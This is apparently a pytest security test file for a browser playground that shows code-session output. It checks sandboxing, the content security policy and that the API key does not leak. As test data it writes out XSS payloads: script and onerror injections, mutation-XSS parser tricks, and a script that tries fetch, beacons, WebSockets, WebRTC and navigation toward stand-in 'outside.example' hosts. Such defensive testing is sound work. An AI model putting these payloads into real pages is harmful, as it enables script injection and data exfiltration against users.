"""Attack the page that shows a session, by code of the session and by clients without the key."""

import base64
import hashlib
import json
import re
import time
from contextlib import ExitStack
from pathlib import Path

import httpx
import pytest

from ..cli.test_cli import Server
from ..playground.browser import Browser, needs_chromium
from ..playground.conftest import KEY, Playground, opened

pytestmark = pytest.mark.slow
STEALS = "parent.document.title = top.document.title = document.title = 'taken'; parent.taken = 1; alert(1)"
HTML = f"""
<b>shown</b><script>{STEALS}</script><img src=x onerror="{STEALS}"><svg onload="{STEALS}"></svg><body onload="{STEALS}">
<iframe srcdoc="<script>{STEALS}</script>"></iframe><iframe src="javascript:{STEALS}"></iframe><a href="javascript:{STEALS}">a</a>
<link rel="preconnect" href="http://preconnect.outside.example"><link rel="dns-prefetch" href="//dns-prefetch.outside.example">
<link rel="stylesheet" href="http://style.outside.example"><link rel="modulepreload" href="//module.outside.example">
<base href="http://base.outside.example"><img src="http://img.outside.example"><img srcset="http://srcset.outside.example">
<style>@import "http://import.outside.example"; b {{ background: url(http://css.outside.example) }}</style>
<video src="http://video.outside.example" autoplay poster="//poster.outside.example"></video><embed src="//embed.outside.example">
<object data="http://object.outside.example"></object><iframe src="http://iframe.outside.example"></iframe>
<a href="//a.outside.example">a</a><form action="http://form.outside.example"><button autofocus></button></form>
<noscript><p title="</noscript><link rel=dns-prefetch href=//noscript.outside.example>"></noscript>
<table background="//table.outside.example"><svg></p>
<style><a id="</style><link rel=dns-prefetch href=//svg.outside.example>"></style></svg>
<template><link rel=dns-prefetch href=//template.outside.example></template>
<math><mtext><table><mglyph><style><!--</style><p title="--&gt;&lt;link rel=dns-prefetch href=//math.outside.example&gt;"></table></math>
<svg><image href="//image.outside.example"/><foreignObject><link rel="preconnect" href="http://foreign.outside.example"/></foreignObject></svg>
<p style="background: url(http://attribute.outside.example)" title='"><link rel=dns-prefetch href=//title.outside.example>'>x</p>
<meta http-equiv="refresh" content="0; url=http://refresh.outside.example">{"<div>" * 2000}</iframe></body></html>
"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{STEALS}"><script>{STEALS}</script>
<image href="http://svg-image.outside.example"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://inner.outside.example"/>
<link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="http://svg-link.outside.example"/></foreignObject></svg>"""
TEXT = f'<img src=x onerror="{STEALS}">'
DISPLAYS = """
from IPython.display import display
text, html, svg, script = {text!r}, {html!r}, {svg!r}, {steals!r}
forms = [("text/html", html), ("image/svg+xml", svg), ("text/html", svg), ("image/png", '"' + text), ("application/javascript", script)]
for number, data in enumerate([*forms, *((form, text) for form in ("text/plain", "text/markdown", "text/latex", text))]):
    data = dict([data])
    display(data, raw=True, display_id=f"{{number}} {{text}}")
open(text.replace("/", "_"), "w").close()
print(text)
raise ValueError(text)
"""


@pytest.mark.long
@needs_chromium
def test_what_code_displays_reaches_neither_the_page_nor_the_network(tmp_path: Path) -> None:
    """What a session's code shows runs no script in the playground, reaches nothing of the page and loads nothing from elsewhere."""
    log = tmp_path / "network.json"
    with ExitStack() as stack:
        server = stack.enter_context(Server("--port", "0", "--api-key", KEY))
        browser = stack.enter_context(Browser(tmp_path, f"--log-net-log={log}"))
        with opened(browser, server) as playground:
            page = playground.page
            page.evaluate("loaded = 0; document.addEventListener('load', (event) => (loaded += event.target.matches('iframe')), true)")
            playground.run(DISPLAYS.format(text=TEXT, html=HTML, svg=SVG, steals=STEALS))
            forged = json.dumps([{"name": TEXT, "type": TEXT, "shape": TEXT, "size": TEXT, "text": TEXT}, None, {"name": 5}, TEXT])
            playground.run(f"import builtins; real = print; builtins.print = lambda *_, **__: real({forged!r})")
            page.wait("document.querySelector('#variables').innerText.includes('onerror')")
            _ask(playground, TEXT)
            page.evaluate("document.querySelector('#new-name').focus()")
            page.write(TEXT[:64])
            page.press("Enter")
            page.wait("document.querySelector('.session[aria-current]').innerText.includes('onerror')")
            page.click(".session:not([aria-current])")
            page.wait("loaded >= 2")
            frames = page.evaluate("[...document.querySelectorAll('iframe')].map((one) => [one.sandbox.value, one.contentDocument])")
            assert frames == [["", None]] * 2
            assert page.styles_in_frame("body", "margin-top") == ["0px"]
            assert page.evaluate("[document.title, typeof taken]") == ["aca-sessions playground", "undefined"]
            assert page.happened("Page.javascriptDialogOpening") == []
            with pytest.raises(AssertionError, match="ERR_NAME_NOT_RESOLVED"):
                page.go("http://a-name-that-is-looked-up.example")
    assert "a-name-that-is-looked-up.example" in log.read_text()
    assert "outside.example" not in log.read_text()


OUTSIDE = "outside.example"
# Each way by which a script may leave its frame. `done` gets a colour when most were tried.
WAYS_OUT = f"""
<link rel=dns-prefetch href=//prefetch.{OUTSIDE}><link rel=preconnect href=//connect.{OUTSIDE}>
<link rel=stylesheet href=//style.{OUTSIDE}>
<link rel=icon href=//icon.{OUTSIDE}><link rel=manifest href=//manifest.{OUTSIDE}><img src=//picture.{OUTSIDE}>

<video src=//video.{OUTSIDE}></video><form action=//form.{OUTSIDE} id=form></form><a href=//link.{OUTSIDE} id=link>x</a>
<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["https://rules.{OUTSIDE}/"]}}]}}</script>
<style>@import url(//import.{OUTSIDE});
@font-face {{ font-family: f; src: url(//font.{OUTSIDE}) }}
body {{ font-family: f; background: url(//background.{OUTSIDE}) }}</style>
<p id=done>waits</p>
<script>
const far = document.head.appendChild(document.createElement("script")); far.src = "//script.{OUTSIDE}";
const tries = [
  () => fetch("//fetch.{OUTSIDE}"), () => navigator.sendBeacon("//beacon.{OUTSIDE}"), () => new WebSocket("wss://socket.{OUTSIDE}"),
  () => new EventSource("//events.{OUTSIDE}"), () => new WebTransport("https://transport.{OUTSIDE}"),
  () => window.open("//window.{OUTSIDE}"),
  () => new Worker("//worker.{OUTSIDE}"), () => new Worker(URL.createObjectURL(new Blob(["importScripts('//blob.{OUTSIDE}'); " +
    "fetch('//inner.{OUTSIDE}')"]))),
  () => import("//module.{OUTSIDE}"), () => {{ top.location = "//top.{OUTSIDE}"; }},
  () => {{ parent.taken = 1; }}, () => parent.document.title = "taken", () => localStorage.getItem("x"),
  () => {{ const one = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:stun.{OUTSIDE}" }}] }});
    one.createDataChannel("x"); return one.createOffer().then((offer) => one.setLocalDescription(offer)); }},
];
Promise.allSettled(tries.map(async (one) => one())).then(() => setTimeout(() => {{
  document.getElementById("done").style.color = "rgb(1, 2, 3)";
  setTimeout(() => {{  // the first of these ends the document
    document.body.append(Object.assign(document.createElement("iframe"), {{ src: "//frame.{OUTSIDE}" }}));
    form.submit(); link.click(); location = "//navigate.{OUTSIDE}";
  }}, 3000);
}}, 2000));
</script>
"""


@needs_chromium
@pytest.mark.long
def test_scripts_that_a_person_lets_run_reach_nothing_of_the_page(tmp_path: Path) -> None:
    """Scripts of an output run in the playground only if a person asks for it, and then reach neither its page nor its key."""
    log = tmp_path / "network.json"
    with ExitStack() as stack:
        server = stack.enter_context(Server("--port", "0", "--api-key", KEY))
        browser = stack.enter_context(Browser(tmp_path, f"--log-net-log={log}"))
        with opened(browser, server) as playground:
            page = playground.page
            playground.run(f"from IPython.display import HTML\nHTML({WAYS_OUT!r})")
            assert page.evaluate("[...document.querySelectorAll('iframe')].map((one) => one.sandbox.value)") == [""]
            page.click(".output .note button")
            while page.styles_in_frame("#done", "color") != ["rgb(1, 2, 3)"]:  # pytest's timeout ends a test that hangs
                time.sleep(0.2)
            time.sleep(6)  # then it tries to go elsewhere
            frames = page.evaluate("[...document.querySelectorAll('iframe')].map((one) => [one.sandbox.value, one.contentDocument])")
            assert frames == [["allow-scripts", None]]
            assert page.evaluate("[document.title, typeof taken]") == ["aca-sessions playground", "undefined"]
            assert "42" in playground.run("6 * 7")
    # What Chromium looks up before it refuses to open it, and WebRTC, which it does not refuse: hence the question.
    assert {*re.findall(rf"(\w+)[.]{OUTSIDE}", log.read_text())} <= {"frame", "link", "navigate", "form", "top", "stun"}


MARKDOWN = f"""# title <script>{STEALS}</script>

[a](javascript:{STEALS}) [b](//link.outside.example "x") ![c](http://picture.outside.example) <http://auto.outside.example>

- <img src=x onerror="{STEALS}">
- `x` <link rel="preconnect" href="http://list.outside.example">
- $\\href{{http://formula.outside.example}}{{x}}$ $\\text{{<link rel=preconnect href=//text.outside.example>}}$
- $\\mathrm{{</mi></math><img src=x onerror="{STEALS}">}}$

| a |
|---|
| $x$ <a title="$y$ \ue0000\ue001 &#xe000;1&#xe001;"> {"&#xe000;1&#xe001;" * 9} |

{HTML.replace(chr(10), " ")}
"""


@needs_chromium
@pytest.mark.long
def test_markdown_and_formulas_reach_neither_the_page_nor_the_network(tmp_path: Path) -> None:
    """Markdown and LaTeX of a session run no script in the playground and load nothing, and a formula is shown where it was written."""
    log = tmp_path / "network.json"
    slow = ["$x", "[a](", "**a ", "`a``", "- a\n", "a|b\n-|-\n", "{", "\\frac", "&#xe000;0&#xe001;"]
    with ExitStack() as stack:
        server = stack.enter_context(Server("--port", "0", "--api-key", KEY))
        browser = stack.enter_context(Browser(tmp_path, f"--log-net-log={log}"))
        with opened(browser, server) as playground:
            page = playground.page
            playground.run(f"from IPython.display import Latex, Markdown\nmarkdown = {MARKDOWN!r}\nMarkdown(markdown)")
            page.wait("document.querySelector('.framed iframe')")
            assert page.styles_in_frame("body", "margin-top") == ["0px"]
            shown = page.evaluate("document.querySelector('.measure').shadowRoot.innerHTML")
            assert (shown.count("<mi>x</mi>"), shown.count("<mi>y</mi>"), "title</h1>" in shown.replace(" ", "")) == (1, 0, True)
            playground.run("display(Latex(markdown), Latex('$' + markdown.replace('$', '') + '$'))")
            playground.run(f"for text in {slow!r}: display(Markdown(text * 1_700), Latex('$' + text * 900 + '$'))")
            assert page.evaluate("[document.title, typeof taken]") == ["aca-sessions playground", "undefined"]
            assert page.happened("Page.javascriptDialogOpening") == []
            assert page.evaluate("[...document.querySelectorAll('iframe')].every((one) => one.contentDocument === null)") is True
            harmful = "script, link, iframe, object, embed, form, style, [href], [style], [onerror], [onload], [src]:not([src^='data:'])"
            found = f"shadowRoot.querySelectorAll({json.dumps(harmful)}).length"
            counts = page.evaluate(f"[...document.querySelectorAll('.measure')].map((one) => one.{found})")
            assert (len(counts) > 3, sum(counts)) == (True, 0)
            assert "42" in playground.run("6 * 7")
    assert "outside.example" not in log.read_text()


@needs_chromium
@pytest.mark.long
def test_the_page_lays_out_a_flood_of_colours(tmp_path: Path) -> None:
    """However many colours and lines code prints, the playground lays out a bounded number of elements, and goes on."""
    floods = {  # what code prints, and what the page shows of it
        "'\\x1b[1ma' * 25_000": "a" * 25_000,
        "'\\x1b[31ma\\x1b[32mb' * 10_000": "ab" * 10_000,
        "'\\x1b[1ma\\x1b[0mb\\n' * 10_000": "ab\n" * 10_000,
        "'\\x1b]' * 50_000 + 'ab'": None,
        "'\\x1b[' + '1;' * 50_000 + '1mab' * 2": None,
    }
    with ExitStack() as stack:
        server = stack.enter_context(Server("--port", "0", "--api-key", KEY))
        with opened(stack.enter_context(Browser(tmp_path)), server) as playground:
            for flood, expected in floods.items():
                playground.run(f"import sys; sys.stdout.write({flood}); sys.stdout.flush(); raise ValueError({flood})")
                last = "[...document.querySelectorAll('.cell')].at(-1)"
                counted = f"[{last}.querySelectorAll('.stream.stdout *').length, {last}.querySelectorAll('*').length]"
                stream, cell = playground.page.evaluate(counted)
                assert 0 < stream < 5000
                assert cell < 10_000
                shown = playground.page.evaluate(f"{last}.querySelector('.stream.stdout').textContent")
                assert shown == expected or (expected is None and "ab" in shown)
            assert "42" in playground.run("6 * 7")


@needs_chromium
@pytest.mark.long
def test_the_key_is_kept_for_its_tab_only(tmp_path: Path) -> None:
    """The playground keeps its key for one tab and sends it in a header, to its own server: no address, element or other tab holds it."""
    with ExitStack() as stack:
        server = stack.enter_context(Server("--port", "0", "--api-key", KEY, "--access-log"))
        browser = stack.enter_context(Browser(tmp_path))
        with opened(browser, server) as playground:
            page = playground.page
            playground.run("open('a.txt', 'w').close(); 42")
            page.wait("document.querySelector('#files .row')")
            assert page.evaluate("location.href") == f"{server.endpoint}/"
            requests = [one["request"] for one in page.happened("Network.requestWillBeSent")]
            assert [one["url"] for one in requests if KEY in one["url"] or not one["url"].startswith((server.endpoint, "data:"))] == []
            bearers = {
                {name.lower(): value for name, value in one["headers"].items()}.get("authorization")
                for one in requests
                if "api-version" in one["url"]
            }
            assert bearers == {f"Bearer {KEY}"}
            assert all(KEY not in json.dumps(one | {"headers": {}}) for one in requests if "api-version" in one["url"])
            kept = "[document.documentElement.outerHTML, document.cookie, JSON.stringify([localStorage, history.state])]"
            assert KEY not in "".join(page.evaluate(kept))
            assert page.evaluate("indexedDB.databases().then((all) => all.length)") == 0
            page.reload()
            page.wait("document.querySelector('.cell')?.innerText.includes('42')")
            other = browser.open(server.endpoint, beside=page)
            other.wait("!document.querySelector('#door').hidden")
            assert other.evaluate("JSON.stringify([localStorage, sessionStorage])") == "[{},{}]"
            page.click("#leave")
            page.wait("document.querySelector('#door')?.hidden === false")
            assert page.evaluate("JSON.stringify(sessionStorage)") == "{}"
    assert KEY not in "".join(server.rest)


def test_the_page_gives_nothing_to_clients_without_the_key() -> None:
    """Without the key the playground's own files are answered, by known host names, and nothing else; no other page can frame them."""
    with Server("--port", "0", "--api-key", KEY) as server, httpx.Client(base_url=server.endpoint, timeout=120) as http:
        page = http.get("/")
        policy = dict(part.split(" ", 1) for part in page.headers["content-security-policy"].split("; "))
        assert policy == policy | {"default-src": "'none'", "script-src": "'self'", "frame-ancestors": "'none'"}
        style = base64.b64encode(hashlib.sha256(http.get("/playground/frame.css").content).digest()).decode()
        assert policy["style-src"] == f"'self' 'sha256-{style}'"
        assert not any("unsafe" in sources for sources in policy.values())
        assert (page.headers["x-content-type-options"], page.headers["referrer-policy"]) == ("nosniff", "no-referrer")
        version = "?api-version=2025-10-02-preview&identifier=mine"
        for path in ("/listSessions", "/executions", "/files", "/session", "/isolation", "/playground/", "/playground/../listSessions"):
            assert http.get(path + version).status_code == 401, path
        for path in ("/", "/playground/page.js"):
            assert http.get(path).status_code == 200
            assert http.get(path, headers={"host": "evil.example"}).status_code == 403


def _ask(playground: Playground, prompt: str) -> None:
    playground.start(f"input({prompt!r})")
    playground.page.wait("document.querySelector('.ask')")
    playground.page.write("no")
    playground.page.press("Enter")
    playground.ended()
